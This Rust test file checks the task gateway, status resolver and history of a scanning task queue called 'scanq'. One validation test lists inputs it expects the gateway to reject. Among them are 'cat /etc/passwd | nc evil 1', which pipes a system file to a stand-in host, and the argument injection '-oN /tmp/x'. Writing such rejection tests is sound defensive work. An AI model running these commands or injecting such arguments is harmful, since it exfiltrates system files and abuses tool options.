use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use scanq_core::broker::{
    Broker, BrokerFuture, BrokerTaskState, Delivery, InMemoryBroker, ReceiptHandle,
};
use scanq_core::models::{
    CoreError, CoreErrorKind, TaskCompletion, TaskId, TaskMessage, TaskRecord, TaskRequest,
    TaskStatus, TaskType,
};
use scanq_core::orchestration::{
    OwnerHistory, StatusCounts, StatusResolver, StatusResponse, TaskGateway, TaskHistory,
    TaskStatusReport,
};
use scanq_core::persistence::TaskStore;
use scanq_core::sqlite::SqliteStore;
use serde_json::json;

fn test_db_path(test_name: &str) -> PathBuf {
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .expect("system clock before unix epoch")
        .as_nanos();
    std::env::temp_dir().join(format!("scanq-{test_name}-{nanos}.sqlite3"))
}

fn migrated_store(test_name: &str) -> Arc<SqliteStore> {
    let store = Arc::new(SqliteStore::new(test_db_path(test_name)));
    store.migrate_to_latest().expect("migration should succeed");
    store
}

fn in_memory_broker() -> Arc<InMemoryBroker> {
    Arc::new(InMemoryBroker::new(
        Duration::from_secs(60),
        Duration::from_millis(20),
    ))
}

/// A broker whose publish always fails.
struct UnreachableBroker;

impl Broker for UnreachableBroker {
    fn publish(&self, _message: TaskMessage) -> BrokerFuture<'_, ()> {
        Box::pin(async {
            Err(CoreError::new(
                CoreErrorKind::BrokerFailure,
                "connection refused",
            ))
        })
    }

    fn receive(&self) -> BrokerFuture<'_, Option<Delivery>> {
        Box::pin(async { Ok(None) })
    }

    fn ack(&self, _receipt: ReceiptHandle) -> BrokerFuture<'_, ()> {
        Box::pin(async { Ok(()) })
    }

    fn nack(&self, _receipt: ReceiptHandle) -> BrokerFuture<'_, ()> {
        Box::pin(async { Ok(()) })
    }

    fn task_state(&self, _task_id: TaskId) -> BrokerFuture<'_, BrokerTaskState> {
        Box::pin(async { Ok(BrokerTaskState::Unknown) })
    }
}

/// A broker that is reachable for nothing, state queries included.
struct StateUnavailableBroker;

impl Broker for StateUnavailableBroker {
    fn publish(&self, _message: TaskMessage) -> BrokerFuture<'_, ()> {
        Box::pin(async { Ok(()) })
    }

    fn receive(&self) -> BrokerFuture<'_, Option<Delivery>> {
        Box::pin(async { Ok(None) })
    }

    fn ack(&self, _receipt: ReceiptHandle) -> BrokerFuture<'_, ()> {
        Box::pin(async { Ok(()) })
    }

    fn nack(&self, _receipt: ReceiptHandle) -> BrokerFuture<'_, ()> {
        Box::pin(async { Ok(()) })
    }

    fn task_state(&self, _task_id: TaskId) -> BrokerFuture<'_, BrokerTaskState> {
        Box::pin(async { Err(CoreError::new(CoreErrorKind::BrokerFailure, "broker down")) })
    }
}

/// Completes the task in the store while reporting ACKNOWLEDGED, as a worker
/// finishing between the resolver's record read and its broker query would.
struct CompletingBroker {
    store: Arc<SqliteStore>,
}

impl Broker for CompletingBroker {
    fn publish(&self, _message: TaskMessage) -> BrokerFuture<'_, ()> {
        Box::pin(async { Ok(()) })
    }

    fn receive(&self) -> BrokerFuture<'_, Option<Delivery>> {
        Box::pin(async { Ok(None) })
    }

    fn ack(&self, _receipt: ReceiptHandle) -> BrokerFuture<'_, ()> {
        Box::pin(async { Ok(()) })
    }

    fn nack(&self, _receipt: ReceiptHandle) -> BrokerFuture<'_, ()> {
        Box::pin(async { Ok(()) })
    }

    fn task_state(&self, task_id: TaskId) -> BrokerFuture<'_, BrokerTaskState> {
        Box::pin(async move {
            self.store.complete_task(
                &task_id,
                &TaskCompletion {
                    status: TaskStatus::Success,
                    result: json!({"status": "success"}),
                    completed_at: SystemTime::now(),
                },
            )?;
            Ok(BrokerTaskState::Acknowledged)
        })
    }
}

#[tokio::test]
async fn submission_records_pending_and_publishes() {
    let store = migrated_store("gateway-submit");
    let broker = in_memory_broker();
    let gateway = TaskGateway::new(store.clone(), broker.clone());

    let receipt = gateway
        .submit("alice", TaskRequest::whois("example.com"))
        .await
        .expect("submission should succeed");

    assert_eq!(receipt.message, "whois_lookup task for 'example.com' started");
    assert_eq!(receipt.check_status, format!("scanq status {}", receipt.task_id));

    let record = store.read_task(&receipt.task_id).unwrap().unwrap();
    assert_eq!(record.status, TaskStatus::Pending);
    assert_eq!(record.owner, "alice");
    assert_eq!(record.task_type, TaskType::WhoisLookup);
    assert_eq!(record.parameters, json!({"ip_address_or_domain": "example.com"}));

    let delivery = broker.receive().await.unwrap().expect("message published");
    assert_eq!(delivery.message.id, receipt.task_id);
    assert_eq!(delivery.message.parameters, record.parameters);
}

#[tokio::test]
async fn invalid_submissions_are_rejected_before_recording() {
    let store = migrated_store("gateway-invalid");
    let broker = in_memory_broker();
    let gateway = TaskGateway::new(store.clone(), broker.clone());

    let rejected = [
        ("alice", TaskRequest::command("")),
        ("alice", TaskRequest::command("cat /etc/passwd | nc evil 1")),
        ("alice", TaskRequest::crawl("ftp://example.com")),
        ("alice", TaskRequest::crawl("not a url")),
        ("alice", TaskRequest::scan("-oN /tmp/x")),
        ("alice", TaskRequest::whois("example.com extra")),
        ("", TaskRequest::scan("10.0.0.1")),
    ];

    for (owner, request) in rejected {
        let error = gateway
            .submit(owner, request.clone())
            .await
            .expect_err("submission must be rejected");
        assert_eq!(error.kind, CoreErrorKind::InvalidInput, "{request:?}");
    }

    assert!(store.list_tasks_by_owner("alice").unwrap().is_empty());
    assert_eq!(broker.queue_length().await, 0);
}

#[tokio::test]
async fn publish_failure_marks_the_task_failed() {
    let store = migrated_store("gateway-publish-failure");
    let gateway = TaskGateway::new(store.clone(), Arc::new(UnreachableBroker));

    let error = gateway
        .submit("alice", TaskRequest::scan("10.0.0.1"))
        .await
        .expect_err("publish failure must be reported");
    assert_eq!(error.kind, CoreErrorKind::BrokerFailure);
    let task_id = error.task_id.expect("error is attributed to the task");

    let record = store.read_task(&task_id).unwrap().unwrap();
    assert_eq!(record.status, TaskStatus::Failure);
    assert_eq!(
        record.result,
        Some(json!({
            "status": "error",
            "target": "10.0.0.1",
            "error": "dispatch failed: connection refused",
        }))
    );
}

#[tokio::test]
async fn unknown_task_is_reported_unknown() {
    let store = migrated_store("status-unknown");
    let resolver = StatusResolver::new(store, in_memory_broker());
    let task_id = TaskId::from("nobody-knows");

    let report = resolver.get_status(&task_id).await.unwrap();
    assert_eq!(
        report,
        TaskStatusReport::Unrecorded {
            state: BrokerTaskState::Unknown
        }
    );
    assert_eq!(report.status_label(), "UNKNOWN");
}

#[tokio::test]
async fn dispatched_task_without_a_record_is_never_failure() {
    let store = migrated_store("status-unrecorded");
    let broker = in_memory_broker();
    let resolver = StatusResolver::new(store, broker.clone());
    let message = TaskMessage {
        id: TaskId::from("direct-1"),
        task_type: TaskType::Scan,
        parameters: json!({"target": "10.0.0.1"}),
        owner: "ops".to_string(),
    };
    broker.publish(message).await.unwrap();

    let report = resolver.get_status(&TaskId::from("direct-1")).await.unwrap();
    assert_eq!(
        report,
        TaskStatusReport::Unrecorded {
            state: BrokerTaskState::Queued
        }
    );
    assert_eq!(report.status_label(), "PENDING");

    broker.receive().await.unwrap().expect("delivery");
    let report = resolver.get_status(&TaskId::from("direct-1")).await.unwrap();
    assert_eq!(report.status_label(), "STARTED");
}

#[tokio::test]
async fn pending_record_reports_broker_state() {
    let store = migrated_store("status-pending");
    let broker = in_memory_broker();
    let gateway = TaskGateway::new(store.clone(), broker.clone());
    let resolver = StatusResolver::new(store, broker);

    let receipt = gateway
        .submit("alice", TaskRequest::scan("10.0.0.1"))
        .await
        .unwrap();

    let response = resolver.get_status_response(&receipt.task_id).await.unwrap();
    assert_eq!(
        response,
        StatusResponse::InFlight {
            task_id: receipt.task_id.clone(),
            status: "PENDING".to_string(),
            state: BrokerTaskState::Queued,
        }
    );
}

#[tokio::test]
async fn broker_outage_leaves_a_pending_record_pending() {
    let store = migrated_store("status-broker-down");
    let record = TaskRecord::pending(
        TaskId::from("t-down"),
        TaskType::Scan,
        json!({"target": "10.0.0.1"}),
        "alice",
    );
    store.create_task(&record).unwrap();

    let resolver = StatusResolver::new(store, Arc::new(StateUnavailableBroker));
    let report = resolver
        .get_status(&record.id)
        .await
        .expect("a broker outage is not surfaced to status callers");

    assert_eq!(
        report,
        TaskStatusReport::Pending {
            state: BrokerTaskState::Unknown
        }
    );
    assert_eq!(report.status_label(), "PENDING");
}

#[tokio::test]
async fn broker_outage_for_an_unrecorded_task_reports_unknown() {
    let store = migrated_store("status-broker-down-unrecorded");
    let resolver = StatusResolver::new(store, Arc::new(StateUnavailableBroker));

    let report = resolver
        .get_status(&TaskId::from("never-seen"))
        .await
        .expect("a broker outage is not surfaced to status callers");

    assert_eq!(
        report,
        TaskStatusReport::Unrecorded {
            state: BrokerTaskState::Unknown
        }
    );
}

#[tokio::test]
async fn terminal_record_is_authoritative() {
    let store = migrated_store("status-terminal");
    let record = TaskRecord::pending(
        TaskId::from("t-1"),
        TaskType::Scan,
        json!({"target": "10.0.0.1"}),
        "alice",
    );
    store.create_task(&record).unwrap();
    store
        .complete_task(
            &record.id,
            &TaskCompletion {
                status: TaskStatus::Failure,
                result: json!({"status": "timeout", "target": "10.0.0.1"}),
                completed_at: SystemTime::now(),
            },
        )
        .unwrap();

    let resolver = StatusResolver::new(store, Arc::new(UnreachableBroker));
    let response = resolver.get_status_response(&record.id).await.unwrap();
    assert_eq!(
        serde_json::to_value(response).unwrap(),
        json!({
            "task_id": "t-1",
            "status": "FAILURE",
            "result": {"status": "timeout", "target": "10.0.0.1"},
        })
    );
}

#[tokio::test]
async fn completion_racing_the_status_query_is_seen() {
    let store = migrated_store("status-race");
    let record = TaskRecord::pending(
        TaskId::from("t-1"),
        TaskType::Scan,
        json!({"target": "10.0.0.1"}),
        "alice",
    );
    store.create_task(&record).unwrap();

    let resolver = StatusResolver::new(
        store.clone(),
        Arc::new(CompletingBroker {
            store: store.clone(),
        }),
    );
    let report = resolver.get_status(&record.id).await.unwrap();

    match report {
        TaskStatusReport::Terminal(terminal) => assert_eq!(terminal.status, TaskStatus::Success),
        other => panic!("expected the re-read terminal record, got {other:?}"),
    }
}

#[tokio::test]
async fn history_for_an_unknown_owner_is_empty() {
    let store = migrated_store("history-empty");
    let history = TaskHistory::new(store);

    assert_eq!(history.list("carol").await.unwrap(), OwnerHistory::NoTasks);
}

#[tokio::test]
async fn history_lists_an_owners_tasks_newest_first() {
    let store = migrated_store("history-list");
    let gateway = TaskGateway::new(store.clone(), in_memory_broker());

    let first = gateway
        .submit("alice", TaskRequest::scan("10.0.0.1"))
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_millis(5)).await;
    let second = gateway
        .submit("alice", TaskRequest::whois("example.com"))
        .await
        .unwrap();
    gateway
        .submit("bob", TaskRequest::scan("10.0.0.2"))
        .await
        .unwrap();

    match TaskHistory::new(store).list("alice").await.unwrap() {
        OwnerHistory::Tasks(tasks) => {
            let ids: Vec<_> = tasks.iter().map(|task| task.id.clone()).collect();
            assert_eq!(ids, [second.task_id, first.task_id]);
        }
        OwnerHistory::NoTasks => panic!("alice has submitted tasks"),
    }
}

#[tokio::test]
async fn counts_cover_every_status() {
    let store = migrated_store("history-counts");
    let gateway = TaskGateway::new(store.clone(), in_memory_broker());
    let mut ids = Vec::new();
    for target in ["10.0.0.1", "10.0.0.2", "10.0.0.3"] {
        ids.push(
            gateway
                .submit("alice", TaskRequest::scan(target))
                .await
                .unwrap()
                .task_id,
        );
    }
    for (task_id, status) in ids.iter().zip([TaskStatus::Success, TaskStatus::Failure]) {
        store
            .complete_task(
                task_id,
                &TaskCompletion {
                    status,
                    result: json!({}),
                    completed_at: SystemTime::now(),
                },
            )
            .unwrap();
    }

    let history = TaskHistory::new(store);
    assert_eq!(
        history.counts().await.unwrap(),
        StatusCounts {
            pending: 1,
            success: 1,
            failure: 1,
            total: 3,
        }
    );
    assert_eq!(history.count(TaskStatus::Pending).await.unwrap(), 1);
}
